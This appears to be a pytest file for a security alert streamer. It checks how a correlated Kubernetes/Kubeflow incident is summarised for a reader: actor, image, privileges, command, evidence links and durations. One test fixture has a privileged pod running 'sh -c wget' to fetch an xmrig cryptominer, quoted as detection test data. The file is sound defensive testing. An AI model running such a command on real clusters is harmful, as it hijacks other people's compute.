"""The incident as a person reads it."""

from __future__ import annotations

from copy import deepcopy
from dataclasses import replace
from typing import Any

import orjson
import pytest

from streamer.ecs import alert_document, notice_document
from streamer.ecs.durations import duration_text
from streamer.ecs.incident import incident, incident_lines, source_text
from streamer.model import AUDIT, Alert, Notice, Step
from tests.ecs.samples import CONTEXT, RULES, RUN_ID, T0, audit, chain, chain_alert, event, firing, match


def document(alert: Alert) -> dict[str, Any]:
    parsed: dict[str, Any] = orjson.loads(alert_document(alert, RULES, CONTEXT).body)
    return parsed


def test_who_is_the_address_that_came_in_and_whom_it_acted_through() -> None:
    seen = incident(document(chain_alert()))
    assert seen.who == (
        "203.0.113.7",
        "acted through system:serviceaccount:kubeflow:ml-pipeline, system:serviceaccount:kubeflow:argo",
    )


def test_what_is_the_image_its_novelty_its_privileges_and_its_command() -> None:
    what = incident(document(chain_alert())).what
    assert what[:2] == ("tensorflow/tensorflow:latest (first seen)", "privileged")
    assert what[2].startswith("runs sh -c wget https://files.example/xmrig")
    assert "s3cr3t" not in what[2]


def test_proof_counts_events_time_and_links() -> None:
    """[A4] the alert counts both kinds of links along its chain."""
    seen = incident(document(chain_alert()))
    assert seen.proof == ("6 events in 52 s", "4 links exact, 0 by time only", "outcome success")
    assert seen.absent == ("An authenticating proxy speaks",)


def test_events_of_one_moment_took_no_time() -> None:
    fired = firing("run_pod", {}, *(match("pod", event(AUDIT, 0, audit("get", "a", "bob"), line)) for line in (1, 2)))
    assert incident(document(Alert("ab" * 16, fired))).proof[0] == "2 events at one moment"


def test_the_time_line_joins_its_steps_by_what_names_the_thing() -> None:
    lines = [(entry.label, entry.join, entry.exact) for entry in incident_lines(document(chain_alert()))]
    assert lines == [
        ("gateway", "", False),
        ("gateway", f"run id {RUN_ID}", True),
        ("audit", f"run id {RUN_ID}", True),
        ("audit", "workflow uid 8d0e", True),
        ("pod log", "pod uid 51be", True),
    ]


def test_a_pod_and_its_container_are_one_moment_with_what_was_new() -> None:
    pod = incident_lines(document(chain_alert()))[3]
    assert pod.rules == ("Pod", "Image")
    assert pod.new == ("tensorflow/tensorflow",)
    assert pod.text.startswith("argo created pod sequential-pipeline-x7k2p-1483 in kubeflow · container main")


def test_first_seen_is_said_of_images_only() -> None:
    """A rule may look for the first event of a run; that its id is new is no news to anybody."""
    told = document(chain_alert())
    told["streamer"]["evidence"][0]["first_seen"] = {"run_id": RUN_ID}
    entries = incident_lines(told)
    assert [entry.new for entry in entries if entry.new] == [("tensorflow/tensorflow",)]
    image, *others = incident(told).what
    assert image.endswith("(first seen)")
    assert not [phrase for phrase in others if "first seen" in phrase]


def test_a_link_by_time_says_so() -> None:
    rules = replace(RULES, correlations=tuple(replace(rule, link_exact=False) for rule in RULES.correlations))
    told = orjson.loads(alert_document(chain_alert(), rules, CONTEXT).body)
    entry = incident_lines(told)[2]
    assert (entry.join, entry.exact) == (f"run id {RUN_ID}", False)


def told_with_a_poll_in_between() -> dict[str, Any]:
    """The chain with the workflow's uid in its evidence, and a request after it that has nothing to do with the pod."""
    told = document(chain_alert())
    evidence = told["streamer"]["evidence"]
    evidence[2]["fields"]["workload"]["uid"] = "8d0e"
    poll = deepcopy(evidence[1])
    poll["event"] |= {"id": "ab" * 16, "time": "2026-11-23T10:02:41.403000Z"}
    poll["source"] = {"file": "containers.ndjson", "line": 99}
    evidence.insert(3, poll)
    return told


def test_a_join_names_the_entry_it_leads_back_to_if_that_is_not_the_one_before() -> None:
    entries = incident_lines(told_with_a_poll_in_between())
    assert [(entry.join, entry.since[11:23]) for entry in entries[3:5]] == [
        (f"run id {RUN_ID}", ""),
        ("workflow uid 8d0e", "10:02:40.934"),
    ]


def test_a_join_names_no_entry_where_it_leads_to_the_one_before_or_none_is_known() -> None:
    told = told_with_a_poll_in_between()
    del told["streamer"]["evidence"][3]
    assert [entry.since for entry in incident_lines(told)] == [""] * 5
    assert [entry.since for entry in incident_lines(document(chain_alert()))] == [""] * 5


def test_a_run_of_similar_events_is_folded_with_its_true_count() -> None:
    shown = [
        match("pod", event(AUDIT, at, audit("create", "pods", "bob", auditID=f"a{at}"), at + 1)) for at in range(20)
    ]
    fired = firing("run_pod", {"workflow_uid": "8d0e"}, *shown)
    fired = replace(fired, steps=(Step("pod", fired.steps[0].members, 500),))
    entries = incident_lines(document(Alert("ab" * 16, fired)))
    assert [entry.more for entry in entries] == [498, 0]


def test_a_lone_detection_needs_no_links() -> None:
    happened = event(AUDIT, 0, audit("get", "secrets", "bob", outcome="denied", responseStatus={"code": 403}), 7)
    seen = incident(document(Alert("ab" * 16, firing("pod", {}, match("pod", happened)))))
    assert seen.who == ("bob from 10.0.0.5",)
    assert seen.what == ("secrets kubeflow",)
    assert seen.proof == ("1 event", "outcome denied")
    assert seen.records == ("audit.ndjson:7",)


def test_impersonation_is_shown_beside_the_actor() -> None:
    """[A5] an impersonated identity is named beside, never instead."""
    happened = event(AUDIT, 0, audit("get", "secrets", "bob", impersonatedUser={"username": "root"}), 7)
    seen = incident(document(Alert("ab" * 16, firing("pod", {}, match("pod", happened)))))
    assert seen.who == ("bob acting as root from 10.0.0.5",)


def test_marks_become_sentences() -> None:
    """[A4] the marks provisional, cut, cold_start."""
    alert = Alert("ab" * 16, replace(chain(), marks=("cold_start", "cut", "provisional")))
    proof = " ".join(incident(document(alert)).proof)
    assert "beyond the beginning of the log" in proof
    assert "beyond the end of the log" in proof
    assert "may still change" in proof


@pytest.mark.parametrize(
    ("length_us", "text"),
    [
        (0, "0 s"),
        (10, "less than 1 ms"),
        (340_000, "340 ms"),
        (52_322_000, "52 s"),
        (200_000_000, "3 min 20 s"),
        (3_600_000_000, "1 h"),
        (187_200_000_000, "2 d 4 h"),
    ],
)
def test_lengths_of_time_are_said_in_at_most_two_units(length_us: int, text: str) -> None:
    assert duration_text(length_us) == text


def test_a_place_is_written_as_editors_and_kafka_tools_write_it() -> None:
    assert source_text({"file": "a.ndjson", "line": 3}) == "a.ndjson:3"
    assert source_text({"topic": "t", "partition": 1, "offset": 9}) == "t[1]@9"


def test_a_notice_can_be_told_too() -> None:
    notice = Notice("state-pressure", "pod", T0, "The rule pod is at its limit", (("a", 3),))
    seen = incident(orjson.loads(notice_document(notice, RULES, CONTEXT).body))
    assert (seen.level, seen.title) == ("medium", "streamer: state pressure")
    assert seen.reason == "The rule pod is at its limit"
    assert seen.entries == ()
